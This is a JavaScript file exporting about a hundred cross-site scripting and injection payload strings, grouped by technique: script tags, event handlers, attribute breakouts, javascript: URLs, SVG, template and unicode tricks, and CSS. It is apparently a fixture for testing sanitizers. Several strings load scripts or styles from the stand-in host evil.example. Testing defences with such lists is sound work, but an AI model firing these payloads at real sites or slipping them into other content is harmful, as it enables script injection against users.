// A hundred ways in which text may try to become something else than text, by kind. Each tries to open a dialog, to load
// something from another host, or to leave the place where it is printed.

const plain = [
  "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script>alert`1`</script >", "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</script><script>alert(1)</script>", "--><script>alert(1)</script><!--",
  "<script type=module>import('//evil.example/m.js')</script>", "<script\u00a0>alert(1)</script>", "<script/x>alert(1)</script>", "]]><script>alert(1)</script>",
];
const handlers = [
  "<img src=x onerror=alert(1)>", "<img src=x onerror=\"alert(1)\">", "<img/src=x/onerror=alert(1)>", "<IMG SRC=x OnErRoR=alert(1)>",
  "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>", "<div onpointerover=alert(1)>x</div>", "<select autofocus onfocus=alert(1)>",
  "<x contenteditable autofocus onfocus=alert(1)>x", "<a onmouseover=alert(1)>x</a>", "<form onsubmit=alert(1)><button>x", "<style onload=alert(1)></style>",
];
const attributes = [
  "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\"><img src=x onerror=alert(1)>", "'><img src=x onerror=alert(1)>",
  "\" autofocus onfocus=\"alert(1)\" x=\"", "\"/><svg onload=alert(1)>", "` onmouseover=`alert(1)", "\" style=\"position:fixed;inset:0\" x=\"",
  "\" accesskey=\"x\" onclick=\"alert(1)", "&quot; onmouseover=&quot;alert(1)", "&#34; onfocus=&#34;alert(1)", "\" srcset=\"//evil.example/a 1x",
];
const addresses = [
  "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "javascript&colon;alert(1)", "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)", "<a href=javascript:alert(1)>x</a>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
  "<object data=//evil.example/x>", "<embed src=//evil.example/x>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<form action=//evil.example/><input name=q>", "//evil.example/%2e%2e", "<img src=//evil.example/x.png>",
];
const drawings = [
  "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(1)><text y=9>x",
  "<svg><foreignObject><img src=x onerror=alert(1)>", "<svg><use href=//evil.example/x.svg#x>", "<svg><image href=//evil.example/x.png>", "<math><mtext><img src=x onerror=alert(1)>",
  "<math href=javascript:alert(1)>x</math>", "<svg/onload=alert(1)//",
];
const templates = [
  "{{7*7}}", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "{% raw %}<b>x</b>{% endraw %}", "<%= alert(1) %>", "#{alert(1)}",
  "{{ w.say(\"a\", \"b\") }}", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "&lt;script&gt;alert(1)&lt;/script&gt;",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
];
const unicode = [
  "＜script＞alert(1)＜/script＞", "﹤img src=x onerror=alert(1)﹥", "\u202e<script>alert(1)</script>\u202c", "<\u200bscript>alert(1)</script>",
  "<img src=x onerror=\u2028alert(1)>", "ʺ onmouseover=ʺalert(1)", "<ſcript>alert(1)</ſcript>", "‹script›alert(1)‹/script›", "<img\u3000src=x\u3000onerror=alert(1)>",
];
const data = [
  "{\"@context\":\"</script><script>alert(1)</script>\"}", "\"}</script><script>alert(1)</script>", "\\\"}];alert(1);//", "*/alert(1)/*", "';alert(1)//",
];
const styles = [
  "</style><script>alert(1)</script>", "<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example/x)}</style>", "<div style=\"background:url(//evil.example/x)\">",
  "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>", "expression(alert(1))", "<link rel=prefetch href=//evil.example/x>", "}body{display:none}",
];

export const payloads = [...plain, ...handlers, ...attributes, ...addresses, ...drawings, ...templates, ...unicode, ...data, ...styles];
